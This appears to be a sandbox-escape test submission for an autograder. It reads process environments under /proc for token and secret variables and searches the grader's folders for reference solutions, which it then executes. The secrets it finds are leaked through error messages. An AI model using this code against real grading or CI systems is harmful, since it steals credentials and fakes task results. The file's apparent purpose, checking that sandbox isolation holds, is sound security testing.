"""Attack: use what /proc tells about the grader to read its own files and secrets: the command
line of the parent (the grader's names the assignment, submissions and results folders), its
cwd, and every readable environment (HIDDEN_TESTS_TOKEN and other CI tokens).
Whatever it finds goes into the error messages, so it would appear in the feedback; a reference
found is used to answer.

Expected under bubblewrap (nothing of the grader is visible) and at the uid level (the grader is
root, its /proc entries and the folders it made private are closed to the sandbox's uid): nothing
found, 0 points, no secret anywhere in the results.
"""
import contextlib
import os
import time

SECRETS = []
SOURCES = {}


def _read(path, limit=4_000_000):
    try:
        with open(path, "rb") as fh:
            return fh.read(limit)
    except OSError:
        return None


def _look(folder, depth=0):
    try:
        names = os.listdir(folder)
    except OSError:
        return
    for name in names:
        path = os.path.join(folder, name)
        if name.endswith(".py"):
            data = _read(path)
            if data and b"def count_positive" in data and b"test_case" not in data:
                SOURCES[path] = data.decode("utf-8", "replace")
        elif depth < 2 and os.path.isdir(path):
            _look(path, depth + 1)


START = time.monotonic()
pids = [os.getppid()] + [int(p) for p in os.listdir("/proc") if p.isdigit()]
for pid in pids:
    if time.monotonic() - START > 0.5:  # within the load's time limit (the grader first)
        break
    for item in (_read(f"/proc/{pid}/environ") or b"").split(b"\0"):
        if b"TOKEN" in item or b"SECRET" in item:
            SECRETS.append(item.decode("latin-1"))
    if pid != os.getppid():  # other copies elsewhere on the machine: read_hidden's business
        continue
    for arg in (_read(f"/proc/{pid}/cmdline") or b"").split(b"\0"):
        arg = arg.decode("utf-8", "replace")
        if arg.startswith("/") and os.path.isdir(arg) and arg not in ("/", "/proc"):
            _look(arg)
    _look(f"/proc/{pid}/cwd")
SECRETS += [f"{k}={v}" for k, v in os.environ.items() if "TOKEN" in k or "SECRET" in k]
print("found:", SECRETS, sorted(SOURCES))
REF = {}
for text in SOURCES.values():
    with contextlib.suppress(Exception):
        exec(text, REF)


def _ref(name):
    if name not in REF:
        raise NotImplementedError(f"found nothing of the grader's; secrets: {SECRETS!r}")
    return REF[name]


def add_bias(X):
    return _ref("add_bias")(X)


def scale(x, c):
    return _ref("scale")(x, c)


def safe_div(a, b):
    return _ref("safe_div")(a, b)


def apply(f, x):
    return _ref("apply")(f, x)


def count_positive(x):
    return _ref("count_positive")(x)
